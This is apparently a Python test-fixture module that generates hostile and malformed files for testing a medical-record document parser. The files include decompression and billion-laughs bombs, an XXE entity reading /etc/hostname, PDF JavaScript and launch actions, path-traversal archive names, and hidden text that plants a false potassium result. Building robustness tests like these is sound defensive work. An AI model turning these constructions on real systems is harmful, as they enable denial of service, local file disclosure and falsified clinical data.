"""Files made to harm or fool a reader: bombs, loops, deep nests, lies about size, hidden text, active content."""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
LINE = "HbA1c 57 mmol/mol, taken on 17 March 2026"


def pdf(objects: dict[int, bytes], *, root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF file from its numbered objects."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    places = {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    top = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % top
    for number in range(1, top):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 65535 f \n"
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (top, root, trailer, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(content), extra) + content + b"\nendstream"


def page_of(
    content: bytes,
    *,
    catalogue: bytes = b"",
    page: bytes = b"",
    more: dict[int, bytes] | None = None,
    packed: bool = False,
) -> bytes:
    """A PDF of one page with this content stream."""
    body = stream(zlib.compress(content), b"/Filter /FlateDecode") if packed else stream(content)
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 "
                b"5 0 R >> >> "
            )
            + page
            + b" >>",
            4: body,
            5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            **(more or {}),
        }
    )


def text(line: str = LINE, y: int = 700, extra: str = "") -> bytes:
    return f"BT /F1 12 Tf {extra} 60 {y} Td ({line}) Tj ET\n".encode()


def word(body: str, members: dict[str, bytes] | None = None, head: str = "") -> bytes:
    """A Word file with this body."""
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(
            "word/document.xml",
            f'<?xml version="1.0"?>{head}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>',
        )
        for name, content in (members or {}).items():
            archive.writestr(name, content)
    return held.getvalue()


def paragraph(line: str = LINE) -> str:
    return f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>"


def png(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says it is so big, whatever is in it."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", data)
        + chunk(b"IEND", b"")
    )


def mail(body: str, headers: str = "") -> bytes:
    return (
        f"From: a@example.invalid\r\nTo: b@example.invalid\r\nSubject: Results\r\nDate: Thu, 04 Jun 2026 "
        f"09:00:00 +0000\r\nMIME-Version: 1.0\r\n{headers}\r\n{body}"
    ).encode()


def _cyclic_pages() -> bytes:
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 5 >>",
            3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 5 >>",
        }
    )


def _deep_pages(depth: int) -> bytes:
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for n in range(2, depth + 2):
        objects[n] = b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (n + 1)
    objects[depth + 2] = b"<< /Type /Page /MediaBox [0 0 595 842] >>"
    return pdf(objects)


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(3, count + 3))
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            **dict.fromkeys(range(3, count + 3), b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"),
        }
    )


def _flate_bomb() -> bytes:
    packed = zlib.compress(zlib.compress(b" " * 300_000_000, 9), 9)
    return page_of(b"", more={4: stream(packed, b"/Filter [/FlateDecode /FlateDecode]")})


def _image_bomb() -> bytes:
    data = zlib.compress(b"\0" * 1_000_000, 9)
    image = stream(
        data,
        (
            b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 /ColorSpace /DeviceGray /BitsPerComponent "
            b"8 /Filter /FlateDecode"
        ),
    )
    return page_of(b"q 595 0 0 842 0 0 cm /I Do Q", page=b"/Resources << /XObject << /I 6 0 R >> >>", more={6: image})


def _form_loop() -> bytes:
    form = stream(b"/X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Resources << /XObject << /X 6 0 R >> >>")
    return pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: (
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << "
                b"/X 6 0 R >> >> >>"
            ),
            4: stream(b"/X Do"),
            6: form,
        }
    )


def _zip_bomb() -> bytes:
    return word("<w:p/>" + " " * 200_000_000)


def _billion_laughs() -> bytes:
    head = (
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
        + "]>"
    )
    return word("<w:p><w:r><w:t>&j;</w:t></w:r></w:p>", head=head)


def _nested_mail(depth: int) -> bytes:
    inner = mail(LINE)
    for _ in range(depth):
        inner = (
            b"From: a@example.invalid\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
            + inner
        )
    return inner


def _many_parts(count: int) -> bytes:
    part = "--b\r\nContent-Type: text/plain\r\n\r\nx\r\n"
    return mail(part * count + "--b--\r\n", 'Content-Type: multipart/mixed; boundary="b"\r\n')


def _locked() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(page_of(text())))
    writer.encrypt("secret", algorithm="AES-256")
    held = io.BytesIO()
    writer.write(held)
    return held.getvalue()


def _observation(depth: int) -> bytes:
    return b'{"resourceType":"Bundle","entry":' + b'[{"a":' * depth + b"1" + b"}]" * depth + b"}"


def hostile_files() -> dict[str, tuple[Callable[[], bytes], frozenset[str]]]:
    """Name → what makes the bytes, and the statuses that are right for them."""
    ok, no, locked = frozenset(("ok",)), frozenset(("rejected",)), frozenset(("locked",))
    either = ok | no
    script = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    launch = b"<< /S /Launch /F (calc.exe) >>"
    good = page_of(text())
    jpeg = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    files: dict[str, tuple[Callable[[], bytes], frozenset[str]]] = {
        "empty.pdf": (lambda: b"", no),
        "spaces.txt": (lambda: b" \n\t \r\n" * 50, no),
        "zeros.bin": (lambda: b"\0" * 5000, no),
        "truncated.pdf": (lambda: good[: len(good) // 2], either),
        "header-only.pdf": (lambda: b"%PDF-1.7\n", no),
        "locked.pdf": (lambda: _locked(), locked),
        "no-page.pdf": (
            lambda: pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
            no,
        ),
        "cyclic-pages.pdf": (lambda: _cyclic_pages(), no),
        "deep-pages.pdf": (lambda: _deep_pages(1500), either),
        "many-pages.pdf": (lambda: _many_pages(10_000), no),
        "flate-bomb.pdf": (lambda: _flate_bomb(), either),
        "image-bomb.pdf": (lambda: _image_bomb(), either),
        "form-loop.pdf": (lambda: _form_loop(), either),
        "javascript.pdf": (lambda: page_of(text(), catalogue=b"/OpenAction " + script), ok),
        "launch.pdf": (lambda: page_of(text(), catalogue=b"/OpenAction " + launch), ok),
        "page-action.pdf": (lambda: page_of(text(), page=b"/AA << /O " + script + b" >>"), ok),
        "attachment.pdf": (
            lambda: page_of(
                text(),
                catalogue=b"/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >>",
                more={6: b"<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>", 7: stream(b"MZ")},
            ),
            ok,
        ),
        "uri.pdf": (
            lambda: page_of(
                text(),
                page=(
                    b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI "
                    b"(http://192.0.2.1/) >> >>]"
                ),
            ),
            ok,
        ),
        "hidden-mode.pdf": (lambda: page_of(text() + text("Potassium 9.0 mmol/L", 600, "3 Tr")), ok),
        "white-text.pdf": (lambda: page_of(text() + b"1 g " + text("Potassium 9.0 mmol/L", 600)), ok),
        "off-page.pdf": (lambda: page_of(text() + text("Potassium 9.0 mmol/L", -300)), ok),
        "tiny-text.pdf": (lambda: page_of(text() + b"BT /F1 0.5 Tf 60 600 Td (Potassium 9.0 mmol/L) Tj ET"), ok),
        "big-page.pdf": (lambda: page_of(text()).replace(b"[0 0 595 842]", b"[0 0 1e9 1e9]"), either),
        "million-characters.pdf": (lambda: page_of(b"BT /F1 1 Tf (" + b"a" * 1_200_000 + b") Tj ET"), either),
        "polyglot-zip.pdf": (lambda: good + word(paragraph("Potassium 9.0 mmol/L")), ok),
        "junk-before.pdf": (lambda: b"junk\n" * 20 + good, either),
        "random.pdf": (lambda: b"%PDF-1.7\n" + bytes((n * 7919 + 13) % 251 for n in range(40_000)), no),
        "entity.docx": (
            lambda: word(
                "<w:p><w:r><w:t>&e;</w:t></w:r></w:p>", head='<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
            ),
            no,
        ),
        "laughs.docx": (lambda: _billion_laughs(), no),
        "zip-bomb.docx": (lambda: _zip_bomb(), no),
        "deep.docx": (
            lambda: word("<w:sdt><w:sdtContent>" * 3000 + paragraph() + "</w:sdtContent></w:sdt>" * 3000),
            no,
        ),
        "many-members.docx": (lambda: word(paragraph(), {f"word/m{n}.xml": b"x" for n in range(900)}), no),
        "remote-template.docx": (
            lambda: word(
                paragraph(),
                {
                    "word/_rels/settings.xml.rels": (
                        b'<Relationships><Relationship Target="http://192.0.2.1/t.dotm" '
                        b'TargetMode="External"/></Relationships>'
                    )
                },
            ),
            ok,
        ),
        "macro.docx": (lambda: word(paragraph(), {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), ok),
        "path-tricks.docx": (lambda: word(paragraph(), {"../../etc/evil": b"x"}), ok),
        "no-document.docx": (lambda: word(paragraph()).replace(b"word/document.xml", b"word/documents.xm"), no),
        "broken-xml.docx": (lambda: word("<w:p><w:r>"), no),
        "zip-only.zip": (lambda: word("").replace(b"word/", b"exce/"), no),
        "huge.png": (lambda: png(100_000, 100_000, zlib.compress(b"\0" * 1000)), no),
        "lying.png": (lambda: png(3000, 3000, zlib.compress(b"\0" * 100)), no),
        "one-dot.png": (lambda: png(1, 1, zlib.compress(b"\0\0")), no),
        "truncated.jpg": (lambda: jpeg, no),
        "fake.heic": (lambda: b"\0\0\0\x18ftypheic" + b"\0" * 100, no),
        "tiff-loop.tif": (lambda: b"II*\x00\x08\x00\x00\x00\x00\x00\x08\x00\x00\x00", no),
        "movie.mp4": (lambda: b"\0\0\0\x18ftypisom" + b"\0" * 100, no),
        "picture.gif": (lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", no),
        "drawing.svg": (
            lambda: b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>HbA1c 57</text></svg>',
            no,
        ),
        "drawing2.svg": (
            lambda: b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "b">]><svg><text>&a;</text></svg>',
            no,
        ),
        "program.exe": (lambda: b"MZ" + b"\x90\0\x03" * 1000, no),
        "old.doc": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000, no),
        "rich.rtf": (lambda: b"{\\rtf1 " + LINE.encode() + b"}", ok),
        "deep.rtf": (lambda: b"{\\rtf1" + b"{" * 100_000 + b"x", no),
        "bytes.rtf": (lambda: b"{\\rtf1 x\\bin99999999 " + b"\0" * 500 + b"}", either),
        "long.rtf": (lambda: b"{\\rtf1 " + b"word " * 300_000 + b"}", no),
        "quotes.csv": (lambda: b'Date,Test,Value\n2026-03-10,"' + b'x"' * 200_000, either),
        "long.csv": (lambda: b"Date,Test,Value\n" + b"2026-03-10,HbA1c,57\n" * 50_000, no),
        "deep.json": (lambda: _observation(100_000), no),
        "deep-array.json": (lambda: b"[" * 200_000, no),
        "not-fhir.json": (lambda: b'{"a": 1}', no),
        "broken.json": (lambda: b'{"resourceType": "Bundle", ', no),
        "loop.json": (
            lambda: json.dumps(
                {
                    "resourceType": "Bundle",
                    "entry": [
                        {
                            "resource": {
                                "resourceType": "Observation",
                                "id": "a",
                                "hasMember": [{"reference": "Observation/a"}],
                                "status": "final",
                            }
                        }
                    ],
                }
            ).encode(),
            ok,
        ),
        "big-number.json": (
            lambda: (
                b'{"resourceType":"Observation","status":"final","code":{"text":"potassium"},"valueQuantity":{"value":1e999999}}'
            ),
            no,
        ),
        "huge-integer.json": (
            lambda: (
                b'{"resourceType":"Observation","status":"final","code":{"text":"potassium"},"valueQuantity":{"value":'
                + b"9" * 100_000
                + b"}}"
            ),
            no,
        ),
        "no-header.hl7": (lambda: b"PID|1||999\rOBX|1|NM|K^Potassium||4.1|mmol/L\r", no),
        "short-header.hl7": (lambda: b"MSH|\r", no),
        "endless.hl7": (lambda: b"MSH|^~\\&|A|B|C|D|2026||ORU^R01|1|P|2.4\r" + b"OBX|1|NM|K^K||4.1\r" * 60_000, either),
        "script.html": (
            lambda: (
                f"<html><script>location='http://192.0.2.1'</script><img "
                f"src='http://192.0.2.1/a.png'><p>{LINE}</p></html>"
            ).encode(),
            ok,
        ),
        "deep.html": (lambda: b"<div>" * 100_000 + b"x", no),
        "hidden.html": (
            lambda: f"<html><p>{LINE}</p><p style='display:none'>Potassium 9.0 mmol/L</p></html>".encode(),
            ok,
        ),
        "nested.eml": (lambda: _nested_mail(400), either),
        "many-parts.eml": (lambda: _many_parts(5000), no),
        "attached-program.eml": (
            lambda: mail(
                (
                    f"--b\r\nContent-Type: text/plain\r\n\r\n{LINE}\r\n--b\r\nContent-Type: "
                    f"application/octet-stream\r\nContent-Disposition: attachment; "
                    f'filename="../../a.exe"\r\nContent-Transfer-Encoding: '
                    f"base64\r\n\r\n{base64.b64encode(b'MZ' * 50).decode()}\r\n--b--\r\n"
                ),
                'Content-Type: multipart/mixed; boundary="b"\r\n',
            ),
            ok,
        ),
        "bad-charset.eml": (lambda: mail(LINE, 'Content-Type: text/plain; charset="x-no-such"\r\n'), ok),
        "long-line.txt": (lambda: b"HbA1c " * 300_000, either),
        "controls.txt": (lambda: bytes(range(1, 32)) * 300, no),
        "regex-trap.txt": (
            lambda: b"Blood pressure " + b"1 " * 20_000 + b"/ 1\n" + b"(" * 5000 + b" " * 50_000 + b"5",
            either,
        ),
        "many-numbers.txt": (lambda: b"Sodium 139 mmol/L potassium 4.1 mmol/L\n" * 5000, either),
    }
    return files
